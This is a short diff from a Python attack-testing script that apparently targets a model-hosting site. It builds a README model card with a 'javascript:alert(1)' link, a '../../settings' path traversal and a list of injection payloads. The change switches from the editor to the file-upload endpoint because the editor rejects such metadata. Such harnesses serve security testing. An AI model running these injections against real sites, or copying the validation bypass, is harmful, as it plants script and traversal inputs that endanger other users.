@@ -74,7 +74,8 @@ def attack(village, client):
     card += 'base_model: "javascript:alert(1)//x/y"\ndatasets:\n- "../../settings"\n---\n'
     card += "\n\n".join(PAYLOADS)
     title = PAYLOADS[0] + PAYLOADS[2]
-    send(client, f"{model}/new/main", path="README.md", text=card, way="commit", title=title,
+    card_file = [("files", ("README.md", card.encode()))]  # the editor refuses such metadata
+    send(client, f"{model}/upload/main", files=card_file, folder="", way="commit", title=title,
          description="\n".join(PAYLOADS))  # fmt: skip
     lines = "\n".join(PAYLOADS)
     cells = "a,b\n" + "\n".join(f'"{each.replace(chr(34), chr(39))}",1' for each in PAYLOADS)
